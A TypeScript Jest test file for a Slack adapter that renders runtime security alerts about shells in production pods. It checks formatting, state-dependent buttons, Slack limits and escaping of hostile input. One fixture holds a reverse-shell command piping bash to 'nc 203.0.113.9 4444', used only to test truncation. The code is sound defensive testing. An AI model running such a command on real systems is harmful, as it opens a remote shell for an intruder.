import { describe, expect, test } from '@jest/globals';
import {
  BLOCKS_LIMIT,
  type Block,
  BUTTON_URL_LIMIT,
  BUTTON_VALUE_LIMIT,
  escaped,
  FALLBACK_LIMIT,
  messageOf,
  plainMessageOf,
  TEXT_LIMIT,
} from '../../../functions/adapters/receivers/slack-message.ts';
import type { Notification } from '../../../functions/core/page/notification.ts';
import { HOSTILE, notificationWith, shellNotification } from '../../fixtures/notifications.ts';

/** As Slack shows it: code and box marked, buttons in brackets. */
function shown(blocks: readonly Block[]): string {
  return blocks
    .map((block) => {
      if (block.type === 'actions')
        return block.elements.map(({ text, url }) => (url ? text.text : `[${text.text}]`)).join(' ');
      return block.elements
        .map(({ type, elements }) => {
          const inner = elements
            .map(({ text, style }) => (style?.code ? `\`${text}\`` : style?.bold ? `**${text}**` : text))
            .join('');
          return type === 'rich_text_preformatted' ? `\n[box]${inner}[/box]\n` : inner;
        })
        .join('');
    })
    .join('\n');
}

describe('messageOf', () => {
  test('a terminal shell in production', () => {
    expect(shown(messageOf(shellNotification, true).blocks)).toBe(
      [
        '🟠 **Shell in payments/ledger-api**',
        '`bash` · root · pod ledger-api-7c9d-x2x8k · ledger-api:v41',
        'acme-prod/europe-west1/payments-eu1 · node ...g2q1',
        'Since 09:00:02 UTC, once; nothing else on this pod',
        'T1059 Command and Scripting Interpreter · execution',
        'First: find out who opened it',
        '[Acknowledge] [Expected, mute 1 h] [Page on-call] [Why?] Logs Dashboard Pod Runbook',
      ].join('\n'),
    );
  });

  test('a long command has its own box and keeps both ends', () => {
    const lead = {
      fields: { 'proc.cmdline': `bash -c ${'x'.repeat(600)} | nc 203.0.113.9 4444`, 'user.name': 'root' },
    };
    const text = shown(messageOf(notificationWith(lead), false).blocks);
    expect(text).toMatch(/\n\[box\]bash -c x+…\(\+\d+\)x+ \| nc 203\.0\.113\.9 4444\[\/box\]\n · root/);
  });

  test('buttons that act carry the group key, the generation and the round they were drawn for', () => {
    const { blocks } = messageOf({ ...shellNotification, generation: 4, round: 2 }, true);
    const acting = blocks
      .flatMap((block) => (block.type === 'actions' ? block.elements : []))
      .filter(({ url }) => !url);
    expect(acting.map(({ action_id }) => action_id)).toEqual(['acknowledge', 'mute_1h', 'page_oncall', 'why']);
    for (const { value } of acting) {
      expect(JSON.parse(value ?? '')).toEqual({ groupKey: shellNotification.groupKey, generation: 4, round: 2 });
    }
  });

  const storm = { size: 12, members: [] };
  const [at, until] = [1_000, 2_000];
  const mute = { id: 'button.x', who: 'ana', at, until };
  const allowed: [string, Partial<Notification>, string[]][] = [
    ['open', {}, ['acknowledge', 'mute_1h', 'page_oncall', 'why']],
    ['acknowledged', { state: 'acknowledged' }, ['resolve', 'mute_1h', 'page_oncall', 'why']],
    ['muted', { state: 'acknowledged', mute }, ['resolve', 'unmute', 'page_oncall', 'why']],
    ['resolved', { state: 'resolved' }, ['why']],
    ['resolved, and no longer muted since', { state: 'resolved', by: { who: 'ana', at: until }, mute }, ['why']],
    [
      'resolved by the relay, and muted',
      { state: 'resolved', by: { who: 'Falco Relay', at }, mute },
      ['unmute', 'why'],
    ],
    ['a storm', { storm }, ['acknowledge', 'page_oncall', 'why']],
    ['a storm that is acknowledged', { storm, state: 'acknowledged' }, ['resolve', 'page_oncall', 'why']],
  ];
  test.each(allowed)('offers what an incident that is %s allows', (_, over, expected) => {
    const { blocks } = messageOf({ ...shellNotification, ...over, links: { query: '' } }, true);
    expect(
      blocks.flatMap((block) => (block.type === 'actions' ? block.elements.map((each) => each.action_id) : [])),
    ).toEqual(expected);
  });

  test('without leave only links are shown, and without links no actions at all', () => {
    const ids = (links: Notification['links']): string[] =>
      messageOf({ ...shellNotification, links }, false).blocks.flatMap((block) =>
        block.type === 'actions' ? block.elements.map(({ action_id }) => action_id) : [],
      );
    expect(ids(shellNotification.links)).toEqual(['open_logs', 'open_dashboard', 'open_console', 'open_runbook']);
    expect(messageOf({ ...shellNotification, links: { query: '' } }, false).blocks).toHaveLength(1);
  });

  test('a link or key that Slack would refuse is left out, not the message', () => {
    const links = { query: '', logs: `https://g.example/${'x'.repeat(BUTTON_URL_LIMIT)}` };
    expect(
      messageOf({ ...shellNotification, links, groupKey: 'k'.repeat(BUTTON_VALUE_LIMIT) }, true).blocks,
    ).toHaveLength(1);
  });

  test.each(HOSTILE)('%s is shown as it is, within the limits', (_name, text) => {
    const fields = {
      'proc.cmdline': text,
      'proc.exepath': text,
      'proc.name': text,
      'user.name': text,
      'fd.name': text,
    };
    const message = messageOf(
      notificationWith(
        { rule: text, fields, where: { namespace: text, pod: text, image: text, node: text } },
        { firstStep: text },
      ),
      true,
    );
    expect(message.blocks.length).toBeLessThanOrEqual(BLOCKS_LIMIT);
    let total = 0;
    for (const block of message.blocks) {
      // Nothing but text elements: no user, channel, broadcast, link or emoji element can come out of an event.
      const elements = block.type === 'rich_text' ? block.elements.flatMap((part) => part.elements) : [];
      for (const element of elements) {
        expect(element.type).toBe('text');
        expect(element.text.length).toBeGreaterThan(0);
        expect(element.text.length).toBeLessThanOrEqual(TEXT_LIMIT);
        total += element.text.length;
      }
    }
    expect(total).toBeLessThan(9_000);
    expect(message.text).not.toMatch(/[<>*_~`]/);
    expect(message.text).not.toMatch(/&(?!amp;|lt;|gt;)/);
    expect(message.text.length).toBeLessThanOrEqual(FALLBACK_LIMIT);
  });

  test.each(HOSTILE)('%s as plain words stays within the limit and unformatted', (_name, text) => {
    const { text: words } = plainMessageOf(notificationWith({ fields: { 'proc.cmdline': text } }, { firstStep: text }));
    expect(words.length).toBeLessThanOrEqual(FALLBACK_LIMIT);
    expect(words).not.toMatch(/[<>*_~`]/);
  });
});

describe('escaped', () => {
  test.each([
    ['<!channel>', '&lt;!channel&gt;'],
    ['a & b', 'a &amp; b'],
    ['&lt;', '&amp;lt;'],
    ['*b* _i_ ~s~ `c`', '∗b∗ ˍiˍ ∼s∼ ˋcˋ'],
  ])('%s', (text, expected) => {
    expect(escaped(text)).toBe(expected);
  });
});
